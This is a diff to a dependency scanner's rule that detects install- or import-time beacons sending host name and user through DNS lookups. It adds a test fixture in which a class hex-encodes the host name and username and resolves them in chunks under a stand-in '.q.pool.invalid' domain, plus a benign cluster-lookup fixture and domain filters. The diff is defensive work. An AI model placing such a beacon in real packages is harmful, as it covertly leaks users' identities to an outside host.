@@ -16,7 +16,8 @@ export const hostBeacon: Rule = {
     description:
       'While installing or on import the code sends the host name, the user, addresses or the folder to a machine that ' +
       'is not the package’s own. It is how a squatted internal package name finds out whom it caught. Honest telemetry is ' +
-      'coarse or hashed, goes to its own host and starts when the program is used.',
+      'coarse or hashed, goes to its own host and starts when the program is used. As part of a looked-up name it is ' +
+      'asked about whenever that happens.',
     references: [
       'dependency confusion (2021 and since): host name, user and folder in DNS labels',
       '60-package reconnaissance campaign (May 2025): a Discord webhook',
@@ -35,6 +36,17 @@ export const hostBeacon: Rule = {
           },
         },
         {
+          title: 'a class looks up who uses it, piece by piece',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const os = require('os'), dns = require('dns')\n" +
+              'exports.Pool = class {\n  constructor() {\n' +
+              "    const who = Buffer.from(os.hostname() + '/' + os.userInfo().username).toString('hex')\n" +
+              "    for (const part of who.match(/.{1,60}/g)) dns.resolve(part + '.q.pool.invalid', () => {})\n  }\n}\n",
+          },
+        },
+        {
           title: 'the host name as a label of a looked-up name',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
@@ -43,6 +55,17 @@ export const hostBeacon: Rule = {
         },
       ],
       passes: [
+        {
+          title: 'a cluster that looks its neighbours up',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const os = require('os'), dns = require('dns')\n" +
+              "const [set] = os.hostname().split('-')\n" +
+              'exports.self = done => dns.lookup(os.hostname(), done)\n' +
+              'exports.peers = done => dns.resolve(`${set}.${os.hostname()}.default.svc.cluster.local`, done)\n',
+          },
+        },
         {
           title: 'a logger that puts the host name into what its caller sends',
           files: {
@@ -75,13 +98,23 @@ export const hostBeacon: Rule = {
 function ofLookup(fact: Fact, flows: readonly RuleFinding[]): readonly RuleFinding[] {
   if (fact.kind !== 'resolves' || fact.byCall || (fact.phase !== 'install' && fact.phase !== 'import'))
     return []
-  const name = fact.destinations.find(text => /\u0001[^/]*(?:\.[\w-]{2,63}){2,}$/.test(text))
+  const name = fact.destinations.find(text => belowDomain.test(text))
   const seen = flows.some(({ location }) => location.path === fact.at.path && location.line === fact.at.line)
   if (name === undefined || seen) return []
   const message =
     `${opening(fact)} looks up ${quote(name)}: what it computes leaves as part of the name, past any proxy. ` +
     'Names that are needed are fixed. Check what it puts there before you install it.'
   return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
+}
+
+/** A label that is computed, below a domain that is not. */
+const belowDomain = /\u0001[^/]*(?:\.[\w-]{2,63}){2,}$/
+
+function isToldToDomain({ sink: { destinations } }: Flow): boolean {
+  const known = destinations.filter(name => belowDomain.test(name))
+  return known.some(
+    name => !/\.(?:local|localdomain|internal|intranet|lan|corp|home|arpa|consul)$/i.test(name),
+  )
 }
 
 /** Commands that print who and where one is. */
@@ -115,6 +148,9 @@ function weigh(flow: Flow, place: Place, facts: number): Action | undefined {
   if (flow.sink.role === 'dest' && facts === 1 && place.kind !== 'capture' && /uname/.test(flow.source.name))
     return undefined
   if (flow.sink.kind === 'dns' && isUnasked(flow) && flow.certain) return 'block'
+  // Names of neighbours end where they are known; what stands before somebody's domain is told to whoever has that.
+  if (flow.sink.kind === 'dns' && flow.certain && (stranger || facts > 1) && isToldToDomain(flow))
+    return 'ask'
   if (place.kind === 'capture' && isUnasked(flow)) return flow.certain ? 'block' : 'ask'
   if (flow.phase === 'install') {
     if (stranger) return facts > 1 && flow.certain ? 'block' : 'ask'
@@ -135,7 +171,7 @@ function say(group: SightingGroup): string {
   const what =
     `${opening(flow)} sends ${sourcesInWords(group)} to ${shown}, ` +
     `${placeInWords(place)}${how}${guardsInWords(flow.guards)}.`
-  return action === 'note'
-    ? what
-    : `${what} Nobody has used the package at that moment, so there is nothing to report. Check that this is the package you meant.`
+  if (action === 'note') return what
+  if (!isUnasked(flow)) return `${what} Nobody who uses it is told. Ask what it needs that for.`
+  return `${what} Nobody has used the package at that moment, so there is nothing to report. Check that this is the package you meant.`
 }
